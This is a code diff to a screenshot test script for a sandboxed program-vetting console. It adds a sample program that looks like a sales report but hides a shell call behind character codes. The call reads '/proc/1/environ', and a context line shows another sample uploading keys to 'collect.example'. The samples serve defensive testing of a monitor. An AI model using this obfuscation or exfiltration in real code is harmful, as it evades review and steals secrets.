@@ -1,6 +1,7 @@
 """`python -m tests.console.screenshots`: every screen, from real runs in real gVisor, as SVG and PNG.
 
-`python -m tests.console.screenshots rehearsal` draws the picture of a rehearsal alone.
+`python -m tests.console.screenshots rehearsal` draws the picture of a rehearsal alone, and `effects` those of
+what a run did.
 """
 
 from __future__ import annotations
@@ -23,7 +24,7 @@ from console.explore.run_sheet import RunSheet
 from engine.cli.samples import SAMPLES
 from engine.client.client import Client
 from engine.common.text import Untrusted
-from engine.models import Draft, Language, Limits, Status
+from engine.models import Draft, InputFile, Language, Limits, Permissions, Status
 from tests import pictures
 from tests.console.safety.test_hostile_frames import plain
 from tests.console.support.harness import press, until
@@ -62,6 +63,21 @@ body = (rows + keys).encode()
 urllib.request.urlopen("https://collect.example/in", body).read()
 print("uploaded", len(rows), "bytes")
 """
+EXCEEDS = """import csv
+import ctypes
+import json
+
+with open("sales.csv") as file:
+    total = sum(float(row["amount"]) for row in csv.DictReader(file))
+with open("report.json", "w") as file:
+    json.dump({"total": total}, file)
+if total < 0:
+    open("errors.log", "a").write("negative")
+name = "".join(map(chr, [115, 121, 115, 116, 101, 109]))
+getattr(ctypes.CDLL(None), name)(b"id > /dev/null; cat /proc/1/environ 2> /dev/null")
+print("total", total)
+"""
+"""It starts a shell by a name that no analysis of names finds."""
 Reach = Callable[[ConsoleApp, Pilot[Any]], Awaitable[None]]
 
 
@@ -105,15 +121,17 @@ SCREENS: dict[str, Reach] = {
 }
 
 
-async def main(*, everything: bool) -> None:
-    """Draw everything, or the picture of a rehearsal alone."""
+async def main(alone: str) -> None:
+    """Draw everything, or what is named alone."""
     FOLDER.mkdir(exist_ok=True)
     with tempfile.TemporaryDirectory(prefix="pratique-") as home:
         engine = EngineProcess(Path(home), PRATIQUE_POLICY__DEADLINES=UNHURRIED)
         engine.start()
         try:
-            await _draw_rehearsal(engine)
-            if not everything:
+            for name, draw in (("rehearsal", _draw_rehearsal), ("effects", _draw_effects)):
+                if alone in {"", name}:
+                    await draw(engine)
+            if alone:
                 return
             await _fill(engine)
             for theme in THEMES:
@@ -145,6 +163,40 @@ async def _draw_rehearsal(engine: EngineProcess) -> None:
         sys.stdout.write(f"rehearsal-{THEMES[0]}\n")
     async with engine.client("report-uploader") as agent:
         await agent.withdraw(case.submission.id)
+
+
+async def _draw_effects(engine: EngineProcess) -> None:
+    """Run a program that does more than it says, and draw that beside what was predicted and granted."""
+    sales = InputFile(name=Untrusted("sales.csv"), content=b"region,amount\nnorth,10\nsouth,32\n")
+    asked = Permissions(files=(sales.name,), limits=Limits(cpus=1, memory_mb=256, seconds=60))
+    draft = Draft(
+        code=Untrusted(EXCEEDS),
+        language=Language.PYTHON,
+        files=(sales,),
+        permissions=asked,
+        purpose=Untrusted("Sum up the sales."),
+    )
+    async with engine.client("sales-reporter") as agent:
+        case = await agent.submit(draft)
+        await _approve(agent, case.submission.id, case.submission.digest)
+        await _ended(agent, case.submission.id)
+
+    async def connect() -> Client:
+        return engine.client()
+
+    for suffix in SIZES:
+        await _draw_sheet(ConsoleApp(connect, Preferences(theme=THEMES[0])), suffix)
+
+
+async def _draw_sheet(app: ConsoleApp, suffix: str) -> None:
+    """Draw the effects of the newest run."""
+    async with app.run_test(size=SIZES[suffix]) as pilot:
+        await until(pilot, lambda: app.health is not None and app.health.can_run, 60)
+        await press(pilot, "4", "enter", "f")
+        await until(pilot, lambda: "redicted and observed" in plain(app), 30)
+        await pilot.pause(1)
+        pictures.save(app, FOLDER / f"effects-{THEMES[0]}{suffix}")
+        sys.stdout.write(f"effects-{THEMES[0]}{suffix}\n")
 
 
 async def _fill(engine: EngineProcess) -> None:
@@ -208,4 +260,4 @@ async def _draw(engine: EngineProcess, theme: str, suffix: str, wanted: list[str
 
 if __name__ == "__main__":
     with suppress(KeyboardInterrupt):
-        asyncio.run(main(everything=sys.argv[1:] != ["rehearsal"]))
+        asyncio.run(main(" ".join(sys.argv[1:])))
